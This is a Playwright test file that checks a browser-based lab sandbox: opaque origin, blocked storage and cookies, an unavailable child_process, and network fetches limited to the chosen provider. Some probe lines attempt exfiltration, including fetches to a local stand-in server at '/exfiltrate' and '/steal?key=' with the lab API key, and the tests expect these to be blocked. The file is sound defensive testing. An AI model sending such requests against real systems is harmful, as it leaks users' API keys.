// What lab code in the quick runner can and cannot reach. Each check would
// fail if the sandbox were weakened (allow-same-origin added) or its
// Content-Security-Policy loosened.
import { test, expect } from '@playwright/test';
import { labPages } from '../../scripts/lib/lab-pages.ts';
import { freshLabPage, WorkbenchDriver } from './support/workbench.ts';
import { startLocalServer, type LocalServer } from './support/local-servers.ts';

const slug = 'streaming-client';
const path = labPages()[slug];
const servers: LocalServer[] = [];
const localServer = async (answer?: string) => {
  const server = await startLocalServer(answer);
  servers.push(server);
  return server;
};

test.describe('the in-page sandbox', () => {
  test.skip(!path, `no built page embeds <Lab slug="${slug}"/>`);

  test.beforeEach(({ page }) => freshLabPage(page, path ?? '/'));
  test.afterEach(async () => {
    await Promise.all(servers.splice(0).map((server) => server.close()));
  });

  test('lab code runs at an opaque origin: no IndexedDB, no caches, no site cookie, no parent DOM', async ({ page }) => {
    // A provider endpoint on the same host as the site: the one place the policy lets lab code connect to.
    const endpoint = await localServer();
    await page.evaluate(() => (document.cookie = 'session=site-cookie; path=/'));
    const wb = new WorkbenchDriver(page, slug);
    await wb.open();
    await wb.chooseModel({ provider: 'openai-compatible', model: 'fake-model', baseURL: `${endpoint.origin}/v1` });
    await wb.runCode(
      [
        'const report = (name: string, value: string) => console.log(`${name}: ${value}`);',
        'const scope = globalThis as any;',
        "report('origin', String(scope.origin));",
        'try {',
        "  const request = scope.indexedDB.open('probe');",
        '  await new Promise((resolve, reject) => { request.onsuccess = resolve; request.onerror = () => reject(request.error); });',
        "  report('indexedDB', 'opened');",
        "} catch (error: any) { report('indexedDB', `blocked (${error.name})`); }",
        "if (scope.caches === undefined) report('caches', 'not defined');",
        "else try { await scope.caches.open('probe'); report('caches', 'opened'); } catch (error: any) { report('caches', `blocked (${error.name})`); }",
        "const echoed = await (await fetch(`${process.env.LAB_BASE_URL}/echo`, { credentials: 'include' })).text();",
        "report('site cookie sent', echoed.includes('site-cookie') ? 'yes' : 'no');",
      ].join('\n'),
    );
    await expect(wb.status).toContainText('Exited with code 0');
    // Each attempt is checked on its own (soft), so a weakened sandbox shows every hole at once.
    const lines = (await wb.output.innerText()).split('\n');
    expect.soft(lines).toContain('origin: null');
    expect.soft(lines).toContain('indexedDB: blocked (SecurityError)');
    // Chromium does not even define `caches` at an opaque origin; where it does, caches.open rejects.
    expect.soft(lines.find((line) => line.startsWith('caches:'))).toMatch(/^caches: (not defined|blocked \(SecurityError\))$/);
    expect.soft(lines).toContain('site cookie sent: no');
    const echo = endpoint.seen.filter((request) => request.path === '/v1/echo');
    expect(echo).toHaveLength(1);
    expect.soft(echo[0]?.headers.cookie).toBeUndefined();
    expect.soft(echo[0]?.headers.origin).toBe('null');

    await expect(wb.sandboxes.first()).toBeAttached();
    for (const frame of await wb.sandboxes.all()) await expect.soft(frame).toHaveAttribute('sandbox', 'allow-scripts');
    const fromParent = await wb.sandboxes.first().evaluate((frame: HTMLIFrameElement) => {
      try {
        return `reached ${frame.contentWindow?.document.body?.tagName}`;
      } catch (error) {
        return (error as Error).name;
      }
    });
    expect.soft(fromParent).toBe('SecurityError');
  });

  test('a Node built-in the page cannot provide is named when used, with the file that used it', async ({ page }) => {
    const wb = new WorkbenchDriver(page, slug);
    await wb.open();
    await wb.runCode("import { spawn } from 'node:child_process';\nconsole.log('imported');\nspawn('ls');\n");
    await expect(wb.output).toContainText('imported');
    await expect(wb.output).toContainText('The in-page runner cannot provide node:child_process (spawn), which src/main.ts uses on this path');
  });

  test('with the stand-in, lab code can connect nowhere, and gets no key', async ({ page }) => {
    const elsewhere = await localServer();
    const wb = new WorkbenchDriver(page, slug);
    await wb.open();
    // A key saved for Anthropic stays with Anthropic once the stand-in is chosen again.
    await wb.chooseModel({ provider: 'anthropic', model: 'claude-haiku-4-5', apiKey: 'sk-ant-not-for-the-stand-in' });
    await wb.chooseModel({ provider: 'stand-in' });
    await wb.runCode(
      [
        'console.log(`key: ${String(process.env.LAB_API_KEY)}`);',
        `try { await fetch('${elsewhere.origin}/exfiltrate'); console.log('fetch: reached'); } catch (error: any) { console.log(\`fetch: blocked (\${error.name})\`); }`,
        `try { await fetch('${page.url()}'); console.log('site fetch: reached'); } catch (error: any) { console.log(\`site fetch: blocked (\${error.name})\`); }`,
      ].join('\n'),
    );
    const lines = (await wb.output.innerText()).split('\n');
    expect(lines).toContain('key: undefined');
    expect(lines).toContain('fetch: blocked (TypeError)');
    expect(lines).toContain('site fetch: blocked (TypeError)');
    expect(elsewhere.seen).toHaveLength(0);
  });
});

// A lab on the kit: the page provides only the packages a lab declares.
const kitSlug = 'cost-curve';
const kitPath = labPages()[kitSlug];

test.describe('the in-page sandbox with a real provider', () => {
  test.skip(!kitPath, `no built page embeds <Lab slug="${kitSlug}"/>`);

  test.beforeEach(({ page }) => freshLabPage(page, kitPath ?? '/'));
  test.afterEach(async () => {
    await Promise.all(servers.splice(0).map((server) => server.close()));
  });

  test('with an OpenAI-compatible endpoint, the kit reaches that origin with the key, and nothing else is reachable', async ({ page }) => {
    const endpoint = await localServer('hello from the chosen endpoint');
    const elsewhere = await localServer();
    const wb = new WorkbenchDriver(page, kitSlug);
    await wb.open();
    await wb.chooseModel({ provider: 'openai-compatible', model: 'fake-model', baseURL: `${endpoint.origin}/v1`, apiKey: 'sk-test-key' });
    await wb.runCode(
      [
        "import { generateText } from 'ai';",
        "import { getModel } from '@ai-roadmap/kit';",
        "const { text } = await generateText({ model: getModel(), prompt: 'hi', maxRetries: 0 });",
        'console.log(`provider: ${text}`);',
        `try { await fetch('${elsewhere.origin}/steal?key=' + process.env.LAB_API_KEY); console.log('elsewhere: reached'); } catch (error: any) { console.log(\`elsewhere: blocked (\${error.name})\`); }`,
      ].join('\n'),
    );
    const lines = (await wb.output.innerText()).split('\n');
    expect(lines).toContain('provider: hello from the chosen endpoint');
    expect(lines).toContain('elsewhere: blocked (TypeError)');
    const call = endpoint.seen.find((request) => request.method === 'POST');
    expect(call?.path).toBe('/v1/chat/completions');
    expect(call?.headers.authorization).toBe('Bearer sk-test-key');
    expect(elsewhere.seen).toHaveLength(0);
    await expect(wb.output).toContainText(/1 model call to fake-model \(openai-compatible\.chat\): 7 input \+ 5 output tokens/);
  });
});
